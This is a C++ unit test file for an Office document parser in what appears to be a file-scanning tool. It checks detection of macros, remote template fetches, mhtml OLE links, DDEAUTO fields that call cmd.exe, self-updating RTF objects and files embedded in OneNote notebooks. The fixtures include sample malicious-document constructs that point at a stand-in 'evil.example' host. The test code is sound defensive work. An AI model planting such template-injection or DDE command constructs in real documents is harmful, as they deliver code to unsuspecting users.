#include "parse/file/office.hpp"

#include <gmock/gmock.h>

#include "base/limits.hpp"
#include "parse/file/relationships.hpp"
#include "parse/file/testing/samples.hpp"

namespace kanshiki::parse {
namespace {

using namespace std::string_literals;
using ::testing::ElementsAre;
using ::testing::IsEmpty;
using testing::stored_zip;
using testing::ZipMember;

const std::string relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

std::string rels(const std::string& type, const std::string& target, bool external = true) {
  return "<?xml version=\"1.0\"?><Relationships><Relationship Id=\"r1\" Type=\"" + relation + type +
         "\" Target=\"" + target + "\"" + (external ? " TargetMode=\"External\"" : "") + "/></Relationships>";
}

class OfficeTest : public ::testing::Test {
 protected:
  Office document(std::vector<ZipMember> members) {
    members.insert(members.begin(),
                   {{"[Content_Types].xml", "<Types/>"}, {"word/document.xml", "<w:document/>"}});
    zip_ = stored_zip(members);
    return read_office(zip_, "docx", limits::unpacked_bytes, arena_);
  }

  Arena arena_;
  std::string zip_;
};

TEST_F(OfficeTest, ADocumentThatIsOnlyRead) {
  const Office office = document({{"word/_rels/document.xml.rels", rels("styles", "styles.xml", false)}});
  EXPECT_THAT(office.links, IsEmpty());
  EXPECT_THAT(office.fetches, IsEmpty());
  EXPECT_FALSE(office.macros || office.commands || office.objects || office.broken);
}

TEST_F(OfficeTest, LinksAreFollowedTemplatesAreFetched) {
  EXPECT_THAT(
      document({{"word/_rels/document.xml.rels", rels("hyperlink", "https://example.com/?a=1&amp;b=2")}})
          .links,
      ElementsAre("https://example.com/?a=1&b=2"));
  EXPECT_THAT(
      document({{"word/_rels/settings.xml.rels", rels("attachedTemplate", "https://evil.example/t.dotm")}})
          .fetches,
      ElementsAre("https://evil.example/t.dotm"));
  EXPECT_THAT(
      document({{"word/_rels/document.xml.rels", rels("oleObject", "mhtml:https://evil.example/x!y")}})
          .fetches,
      ElementsAre("mhtml:https://evil.example/x!y"));
  EXPECT_THAT(
      document({{"word/_rels/settings.xml.rels", rels("attachedTemplate", "file:///C:\\Normal.dotm")}})
          .fetches,
      IsEmpty());
}

TEST_F(OfficeTest, MacrosOfEveryKind) {
  EXPECT_TRUE(document({{"word/vbaProject.bin", "x"}}).macros);
  EXPECT_TRUE(document({{"xl/macrosheets/sheet1.xml", "<x/>"}}).macros);
}

TEST_F(OfficeTest, FieldsThatRunCommands) {
  EXPECT_TRUE(document({{"word/footer.xml",
                         "<w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\cmd.exe </w:instrText>"}})
                  .commands);
  EXPECT_TRUE(document({{"word/footer.xml", "<w:fldSimple w:instr=\"DDE cmd\"/>"}}).commands);
  EXPECT_FALSE(document({{"word/footer.xml", "<w:t>DDEAUTO is a field</w:t>"}}).commands);
}

TEST_F(OfficeTest, WhatItCarries) {
  const Office office = document({{"word/media/image1.png", "png"}, {"word/embeddings/a.bin", "object"}});
  ASSERT_EQ(office.files.size(), 2u);
  EXPECT_EQ(office.files[0].content, "png");
}

TEST_F(OfficeTest, RichTextWithAnObjectThatUpdatesItself) {
  EXPECT_TRUE(read_office("{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}", "rtf", 100, arena_).objects);
  EXPECT_FALSE(read_office("{\\rtf1 just words about objdata}", "rtf", 100, arena_).objects);
}

TEST_F(OfficeTest, NotebooksCarryFiles) {
  const std::string blob = "\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC"s +
                           testing::little(5, 8) + std::string(12, '\0') + "MZ...";
  const std::string notebook = "head" + blob + "tail";
  const Office office = read_office(notebook, "onenote", 100, arena_);
  ASSERT_EQ(office.files.size(), 1u);
  EXPECT_EQ(office.files[0].content, "MZ...");
  EXPECT_THAT(read_office(notebook.substr(0, 30), "onenote", 100, arena_).files, IsEmpty());
}

TEST_F(OfficeTest, BrokenOnesAreTold) {
  EXPECT_TRUE(read_office("PK\x03\x04", "docx", 100, arena_).broken);
  EXPECT_TRUE(read_office("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", "doc", 100, arena_).broken);
}

}  // namespace
}  // namespace kanshiki::parse
